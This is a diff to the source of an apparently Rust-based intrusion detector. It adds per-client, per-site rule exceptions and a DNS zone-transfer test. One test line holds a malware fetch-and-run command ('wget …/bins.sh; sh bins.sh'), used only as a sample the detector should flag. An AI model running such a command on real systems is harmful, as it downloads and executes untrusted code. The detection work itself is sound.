@@ -3,6 +3,8 @@
 //! An oddity is its own evidence. Text is looked at with the pattern rules of the classes that act in any program that logs or
 //! runs what it reads (a JNDI lookup, a command, a malware fetch): in a user name or a command line they mean the same as in a URL.
 
+use std::net::SocketAddr;
+
 use crate::detect::score::Found;
 use crate::detect::value::ValueKind;
 use crate::detect::{Detector, RuleInfo, Scratch, Verdict, short_hash};
@@ -46,13 +48,22 @@ pub fn hash(hash: Sha256, oddity: &Oddity) -> Sha256 {
 }
 
 impl Detector {
-    /// Judges a message of a form that only an attacker sends, in protocol `app`.
-    pub fn judge_oddity(&self, app: &str, oddity: &Oddity, excerpt: &[u8]) -> Verdict {
+    /// Judges a message of a form that only an attacker sends, in protocol `app`, by its client and server.
+    pub fn judge_oddity(
+        &self,
+        app: &str,
+        oddity: &Oddity,
+        excerpt: &[u8],
+        (client, server): (SocketAddr, SocketAddr),
+    ) -> Verdict {
         if self.disabled.iter().any(|id| id == oddity.id) {
             return Verdict::Clean;
         }
         if oddity.weight < self.threshold {
             return Verdict::Suspicious;
+        }
+        if self.exceptions.excuse(oddity.id, client.ip(), server) {
+            return Verdict::Excepted;
         }
         Verdict::Attack(Judgement {
             class: oddity.class,
@@ -71,7 +82,7 @@ impl Detector {
         &self,
         app: &str,
         (field, text): (&str, &[u8]),
-        server: std::net::SocketAddr,
+        server: SocketAddr,
         scratch: &mut Scratch,
     ) -> Verdict {
         let text = text.get(..text.len().min(TEXT_MAX_BYTES)).unwrap_or(text);
@@ -138,6 +149,27 @@ mod tests {
             assert_eq!(judge(honest), Verdict::Clean, "{}", honest.escape_ascii());
         }
         assert!(matches!(judge(b"cd /tmp; wget http://192.0.2.9/bins.sh; sh bins.sh"), Verdict::Attack(_)));
+    }
+
+    #[test]
+    fn an_exception_excuses_a_message_of_its_client_at_its_site_alone() {
+        let settings = "[[site]]\nname = \"zone\"\naddresses = [\"203.0.113.10\"]\n\
+            [[detect.exception]]\nrule = \"dns.axfr\"\nclient = \"198.51.100.0/29\"\nsite = \"zone\"\n";
+        let detector = Detector::new(&toml::from_str::<Settings>(settings).unwrap()).unwrap();
+        let axfr = oddities().find(|oddity| oddity.id == "dns.axfr").unwrap();
+        let version = oddities().find(|oddity| oddity.id == "dns.version_bind").unwrap();
+        let judge = |oddity, client: &str, server: &str| {
+            detector.judge_oddity("dns", oddity, b"", (client.parse().unwrap(), server.parse().unwrap()))
+        };
+        let (secondary, server) = ("198.51.100.2:40000", "203.0.113.10:53");
+        assert_eq!(judge(axfr, secondary, server), Verdict::Excepted);
+        for (oddity, client, server) in [
+            (axfr, "198.51.100.9:40000", server),
+            (axfr, secondary, "203.0.113.11:53"),
+            (version, secondary, server),
+        ] {
+            assert!(matches!(judge(oddity, client, server), Verdict::Attack(_)), "{client} {server}");
+        }
     }
 
     #[test]
